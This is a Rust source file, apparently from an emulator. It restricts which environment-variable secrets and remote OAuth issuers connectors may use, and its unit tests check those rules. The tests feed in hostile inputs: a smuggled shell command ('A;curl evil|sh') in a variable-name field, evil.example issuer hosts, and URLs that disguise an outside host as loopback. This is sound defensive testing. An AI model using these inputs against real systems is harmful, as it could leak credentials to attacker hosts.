//! The environment variables and remote issuers that connectors may use. Only the command line sets them: a seed or a
//! state file may have come with a repository, and the API is open to every program of the user, so whatever else they
//! name is refused.

use std::collections::BTreeMap;
use std::net::IpAddr;

use secrecy::{ExposeSecret, SecretString};
use serde_json::Value;

use super::world::{PathStep, Problem, World};

/// The keys of a connector's `data` that name an environment variable.
const VARIABLE_KEYS: [&str; 3] = ["client_secret_env", "private_key_env", "api_key_env"];
/// The keys of a connector's `data` that name an issuer.
const ISSUER_KEYS: [&str; 2] = ["issuer", "service_url"];

/// What the command line allows.
#[derive(Debug, Clone, Default)]
pub struct Allowlist {
    secrets: BTreeMap<String, SecretString>,
    issuers: Vec<String>,
}

/// Why the API may not set a connector's `data`.
#[derive(Debug, thiserror::Error)]
pub(super) enum DataNotAllowed {
    #[error(
        "`data.{0}` names a variable of the emulator's environment, which only a seed may do, with --secret-from-env"
    )]
    Variable(&'static str),
    #[error("`data.{0}` can only be set by the seed, since the secret is in a variable")]
    IssuerOfVariable(&'static str),
    #[error("`data.{0}` must be on this machine, or be allowed when the emulator starts, with --allow-issuer")]
    Issuer(&'static str),
}

impl Allowlist {
    /// Allows these variables, with their values, and these issuers in addition to those on this machine.
    pub fn new(secrets: BTreeMap<String, SecretString>, issuers: Vec<String>) -> Self {
        Self { secrets, issuers: issuers.into_iter().map(|issuer| without_slash(&issuer).to_owned()).collect() }
    }

    /// The value of a variable, if it is allowed.
    pub(super) fn secret(&self, name: &str) -> Option<&str> {
        self.secrets.get(name).map(ExposeSecret::expose_secret)
    }

    /// Whether connectors may use this issuer and send it their secrets.
    pub(super) fn allows_issuer(&self, issuer: &str) -> bool {
        is_on_this_machine(issuer) || self.names_issuer(issuer)
    }

    /// Whether the command line names this issuer. The whole URL must match, since one host can serve several issuers.
    pub(super) fn names_issuer(&self, issuer: &str) -> bool {
        self.issuers.iter().any(|allowed| allowed == without_slash(issuer))
    }

    /// The variables and issuers that a world uses without being allowed to.
    pub(super) fn problems(&self, world: &World) -> Vec<Problem> {
        let mut problems = Vec::new();
        for (i, connector) in world.connectors.iter().enumerate() {
            let values = |keys: &[&'static str]| -> Vec<(&'static str, Value)> {
                keys.iter().filter_map(|key| Some((*key, connector.data.get(*key)?.clone()))).collect()
            };
            let mut report = |key, message| {
                let path =
                    vec![PathStep::Key("connectors"), PathStep::Item(i), PathStep::Key("data"), PathStep::Key(key)];
                problems.push(Problem { path, message });
            };
            for (key, value) in values(&VARIABLE_KEYS) {
                match value.as_str().filter(|name| is_variable(name)) {
                    Some(name) if self.secrets.contains_key(name) => {}
                    Some(name) => report(
                        key,
                        format!("`{key}` names a variable of your environment: allow it with --secret-from-env {name}"),
                    ),
                    None => report(key, format!("`{key}` must be the name of a variable")),
                }
            }
            for (key, value) in values(&ISSUER_KEYS) {
                match value.as_str() {
                    Some(issuer) if self.allows_issuer(issuer) => {}
                    Some(issuer) => report(
                        key,
                        format!("the provider {issuer:?} is not on this machine: allow it with --allow-issuer URL"),
                    ),
                    None => report(key, format!("`{key}` must be a URL")),
                }
            }
        }
        problems
    }

    /// Checks what the API may put into a connector's data, which is `before` so far. It may not name a variable, and
    /// if the connector's secret is in a variable, it may not change the issuer that the secret is sent to.
    pub(super) fn check_update(
        &self,
        data: &BTreeMap<String, Value>,
        before: &BTreeMap<String, Value>,
    ) -> Result<(), DataNotAllowed> {
        if let Some(key) = VARIABLE_KEYS.into_iter().find(|key| data.contains_key(*key)) {
            return Err(DataNotAllowed::Variable(key));
        }
        let has_variable = VARIABLE_KEYS.iter().any(|key| before.contains_key(*key));
        for (key, value) in ISSUER_KEYS.into_iter().filter_map(|key| Some((key, data.get(key)?))) {
            if has_variable && before.get(key) != Some(value) {
                return Err(DataNotAllowed::IssuerOfVariable(key));
            }
            if !value.as_str().is_some_and(|issuer| self.allows_issuer(issuer)) {
                return Err(DataNotAllowed::Issuer(key));
            }
        }
        Ok(())
    }
}

/// Whether the command line may name this issuer: it must use HTTPS or be on this machine, as secrets are sent to it.
pub fn is_issuer(url: &str) -> bool {
    let is_https = parsed(url).is_some_and(|uri| uri.scheme_str() == Some("https") && uri.query().is_none());
    is_https || is_on_this_machine(url)
}

/// Whether this is a valid name of an environment variable.
pub fn is_variable(name: &str) -> bool {
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    !name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit()) && name.bytes().all(is_plain)
}

/// Whether a URL leads to this machine without relying on name resolution.
pub(super) fn is_on_this_machine(url: &str) -> bool {
    let is_web = |uri: &http::Uri| matches!(uri.scheme_str(), Some("http" | "https"));
    parsed(url).filter(is_web).is_some_and(|uri| uri.host().is_some_and(is_loopback_name))
}

/// Parses a URL that has a host and no user information.
fn parsed(url: &str) -> Option<http::Uri> {
    let uri: http::Uri = url.parse().ok()?;
    uri.authority().is_some_and(|authority| !authority.as_str().contains('@')).then_some(uri)
}

/// Whether a host is `localhost` or a loopback address.
pub(super) fn is_loopback_name(host: &str) -> bool {
    let bare = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
    host.eq_ignore_ascii_case("localhost") || bare.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

fn without_slash(url: &str) -> &str {
    url.strip_suffix('/').unwrap_or(url)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::emulator::world::Connector;

    fn allowlist() -> Allowlist {
        let secrets = BTreeMap::from([("ALLOWED".to_owned(), SecretString::from("s3cret"))]);
        Allowlist::new(secrets, vec!["https://login.example.com/acme/".into()])
    }

    fn data(of: &Value) -> BTreeMap<String, Value> {
        of.as_object().expect("an object").clone().into_iter().collect()
    }

    #[test]
    fn a_world_may_only_use_what_the_command_line_allows() {
        for (data_json, expected) in [
            (json!({"api_key_env": "ALLOWED"}), None),
            (json!({"api_key_env": "HOME"}), Some("--secret-from-env HOME")),
            (json!({"client_secret_env": "AWS_SECRET_ACCESS_KEY"}), Some("--secret-from-env AWS_SECRET_ACCESS_KEY")),
            (json!({"private_key_env": "allowed"}), Some("--secret-from-env allowed")),
            (json!({"private_key_env": "A;curl evil|sh"}), Some("must be the name of a variable")),
            (json!({"private_key_env": ["ALLOWED"]}), Some("must be the name of a variable")),
            (json!({"issuer": "https://login.example.com/acme"}), None),
            (json!({"issuer": "https://login.example.com/evil"}), Some("--allow-issuer")),
            (json!({"service_url": "https://evil.example"}), Some("--allow-issuer")),
            (json!({"issuer": 7}), Some("must be a URL")),
            (json!({"issuer": "http://127.0.0.1:9"}), None),
            (json!({"api_key": "made up", "other_env": "HOME", "serverUrl": "https://mcp.example"}), None),
        ] {
            let mut world = World::demo();
            world.connectors =
                vec![Connector { data: data(&data_json), ..Connector::new("oauth/x", "scl_x", "prj_web") }];
            let problems = allowlist().problems(&world);
            match expected {
                None => assert_eq!(problems, [], "{data_json}"),
                Some(text) => {
                    assert!(problems.len() == 1 && problems[0].message.contains(text), "{data_json}: {problems:?}");
                }
            }
        }
    }

    #[test]
    fn the_api_may_not_name_a_variable_or_redirect_its_secret() {
        let seeded = json!({"client_secret_env": "ALLOWED", "issuer": "https://login.example.com/acme"});
        for (update, before, is_allowed) in [
            (json!({"scopes": ["read"], "api_key": "made up"}), json!({}), true),
            (json!({"api_key_env": "ALLOWED"}), json!({}), false),
            (json!({"client_secret_env": null}), seeded.clone(), false),
            (json!({"issuer": "http://127.0.0.1:9"}), json!({}), true),
            (json!({"issuer": "https://login.example.com/acme"}), json!({}), true),
            (json!({"issuer": "https://evil.example"}), json!({}), false),
            (json!({"service_url": "https://evil.example"}), json!({}), false),
            (json!({"issuer": "http://127.0.0.1:9"}), seeded.clone(), false),
            (json!({"service_url": "http://127.0.0.1:9"}), seeded.clone(), false),
            (json!({"issuer": "http://127.0.0.1:9"}), json!({"private_key_env": "ALLOWED"}), false),
            (json!({"issuer": "https://login.example.com/acme", "scopes": []}), seeded, true),
        ] {
            let checked = allowlist().check_update(&data(&update), &data(&before));
            assert_eq!(checked.is_ok(), is_allowed, "{update} after {before}: {checked:?}");
        }
    }

    #[test]
    fn only_loopback_urls_are_on_this_machine() {
        for (url, expected) in [
            ("http://127.0.0.1:9/oauth", true),
            ("http://LOCALHOST:9", true),
            ("https://[::1]", true),
            ("http://127.9.9.9", true),
            ("http://127.0.0.1.evil.example", false),
            ("http://localhost.evil.example", false),
            ("http://127.0.0.1@evil.example", false),
            ("http://localhost:9@evil.example/", false),
            ("http://evil.example/127.0.0.1", false),
            ("http://0.0.0.0:9", false),
            ("http://10.0.0.1", false),
            ("ftp://127.0.0.1", false),
            ("127.0.0.1:9", false),
            ("/oauth", false),
            ("", false),
        ] {
            assert_eq!(is_on_this_machine(url), expected, "{url}");
        }
        for (url, expected) in [
            ("https://login.example.com/tenant", true),
            ("http://login.example.com", false),
            ("https://login.example.com?x", false),
            ("https://a:b@login.example.com", false),
            ("login.example.com", false),
            ("http://127.0.0.1:9", true),
        ] {
            assert_eq!(is_issuer(url), expected, "{url}");
        }
    }
}
